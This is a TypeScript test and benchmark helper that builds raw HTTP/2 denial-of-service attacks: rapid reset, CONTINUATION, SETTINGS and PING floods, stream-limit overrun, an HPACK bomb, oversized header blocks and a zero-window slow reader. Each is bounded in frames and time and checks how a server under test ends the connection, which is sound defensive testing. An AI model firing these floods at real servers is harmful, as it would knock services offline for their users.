/**
 * h2-attacks: the HTTP/2 attacks of SPEC E17, each bounded in frames and time, written with
 * H2RawClient so they are exact. Shared by test/front-door/http2-attacks.test.ts and
 * bench/front-door-attacks.ts. Each returns what the server answered: the GOAWAY (code, when)
 * or a plain close, or neither within the wait.
 */
import { performance } from 'node:perf_hooks';
import { Hpack, Setting, continuationFrame, headersFrame, pingFrame, requestBlock, rstStreamFrame, settingsFrame } from './h2-frames.ts';
import { H2RawClient, type GoawayInfo } from './h2-raw-client.ts';

/** AttackResult is how one attack connection ended. */
export interface AttackResult {
  /** Frames (or streams) sent. */
  sent: number;
  goaway: GoawayInfo | undefined;
  /** ms from the first attack frame until GOAWAY or close; undefined: neither within the wait. */
  endedMs: number | undefined;
  closed: boolean;
}

/** ATTACK_MAX_MS bounds how long any attack sends. */
export const ATTACK_MAX_MS = 3_000;

type Sender = (c: H2RawClient, i: number) => Buffer[];

async function flood(port: number, count: number, send: Sender, prelude?: (c: H2RawClient) => void, o: { read?: boolean; settings?: [number, number][] } = {}): Promise<AttackResult> {
  const c = await H2RawClient.connect(port, o.settings ? { settings: o.settings } : {});
  await c.waitFor(() => (c.counts.get(4) ?? 0) > 0, 1000);
  prelude?.(c);
  if (o.read === false) c.stopReading();
  const t0 = c.elapsedMs();
  const end = performance.now() + ATTACK_MAX_MS;
  let sent = 0;
  while (sent < count && !c.isClosed && c.goawayInfo === undefined && performance.now() < end) {
    const batch: Buffer[] = [];
    for (let k = 0; k < 50 && sent < count; k++, sent++) batch.push(...send(c, sent));
    c.send(...batch);
    await Promise.race([c.drained(), new Promise((r) => setTimeout(r, 200))]);
    await new Promise((r) => setImmediate(r));
  }
  if (o.read === false) c.socket.resume();
  const seen = await c.goawayOrClose(3_000);
  c.close();
  return { sent, goaway: c.goawayInfo, endedMs: seen === undefined ? undefined : seen.atMs - t0, closed: c.isClosed || seen !== undefined };
}

/** Attack is one named attack. */
export interface Attack {
  name: string;
  /** Connections it uses at once. */
  connections: number;
  run(port: number): Promise<AttackResult[]>;
}

const one = (name: string, fn: (port: number) => Promise<AttackResult>): Attack => ({ name, connections: 1, run: async (port) => [await fn(port)] });

/** ATTACKS are the HTTP/2 attacks, each bounded in count and time. */
export const ATTACKS: Attack[] = [
  one('rapid reset (HEADERS+RST_STREAM), 1 connection', (port) =>
    flood(port, 20_000, (c) => {
      const id = c.streamId();
      return [headersFrame(id, requestBlock('/rr')), rstStreamFrame(id)];
    })),
  {
    name: 'rapid reset, 8 connections',
    connections: 8,
    run: (port) =>
      Promise.all(
        Array.from({ length: 8 }, () =>
          flood(port, 20_000, (c) => {
            const id = c.streamId();
            return [headersFrame(id, requestBlock('/rr')), rstStreamFrame(id)];
          }),
        ),
      ),
  },
  one('CONTINUATION flood, empty frames', (port) => {
    let id = 0;
    return flood(port, 100_000, () => [continuationFrame(id, Buffer.alloc(0))], (c) => {
      id = c.streamId();
      c.send(headersFrame(id, requestBlock('/cont'), { endHeaders: false }));
    });
  }),
  one('CONTINUATION flood, with header payload', (port) => {
    let id = 0;
    return flood(port, 100_000, (_c, i) => [continuationFrame(id, new Hpack().literal(`x-c${i}`, 'v'.repeat(1000)).build())], (c) => {
      id = c.streamId();
      c.send(headersFrame(id, requestBlock('/cont'), { endHeaders: false }));
    });
  }),
  one('SETTINGS flood', (port) => flood(port, 100_000, () => [settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 65535]])])),
  one('SETTINGS flood, client not reading', (port) => flood(port, 100_000, () => [settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 65535]])], undefined, { read: false })),
  one('PING flood', (port) => flood(port, 100_000, () => [pingFrame()])),
  one('PING flood, client not reading', (port) => flood(port, 100_000, () => [pingFrame()], undefined, { read: false })),
  one('streams over the 128 limit', (port) => flood(port, 2_000, (c) => [headersFrame(c.streamId(), requestBlock('/many'), { endStream: false })])),
  one('HPACK bomb (4 KB entry referenced 4000 times per block)', (port) => {
    const bomb = new Hpack().request('/bomb');
    for (let i = 0; i < 4000; i++) bomb.indexed(62);
    const block = bomb.build();
    return flood(port, 5_000, (c) => [headersFrame(c.streamId(), block)], (c) => {
      c.send(headersFrame(c.streamId(), new Hpack().request('/seed').literalIndexed('x-bomb', 'b'.repeat(4000)).build()));
    });
  }),
  one('huge header blocks (64 KB in HEADERS + CONTINUATION)', (port) => {
    const h = new Hpack().request('/huge');
    for (let i = 0; i < 1000; i++) h.literal(`x-h${i}`, 'v'.repeat(60));
    const block = h.build();
    return flood(port, 5_000, (c) => {
      const id = c.streamId();
      const frames = [headersFrame(id, block.subarray(0, 16_000), { endHeaders: false })];
      for (let o = 16_000; o < block.length; o += 16_000) frames.push(continuationFrame(id, block.subarray(o, o + 16_000), o + 16_000 >= block.length));
      return frames;
    });
  }),
];

/**
 * zeroWindowReader opens `streams` requests for `path` with an initial window of 0 and never
 * reads them; it resolves when every stream was reset or the connection ended (endedMs), or at
 * `waitMs`.
 */
export async function zeroWindowReader(port: number, path: string, streams: number, waitMs: number): Promise<AttackResult> {
  const c = await H2RawClient.connect(port, { settings: [[Setting.INITIAL_WINDOW_SIZE, 0]] });
  const t0 = c.elapsedMs();
  const ids: number[] = [];
  for (let i = 0; i < streams; i++) ids.push(c.request(path));
  const done = await c.waitFor(() => c.goawayInfo !== undefined || ids.every((id) => c.resets.has(id)), waitMs);
  const endedMs = done || c.isClosed ? c.elapsedMs() - t0 : undefined;
  c.close();
  return { sent: streams, goaway: c.goawayInfo, endedMs, closed: done || c.isClosed };
}
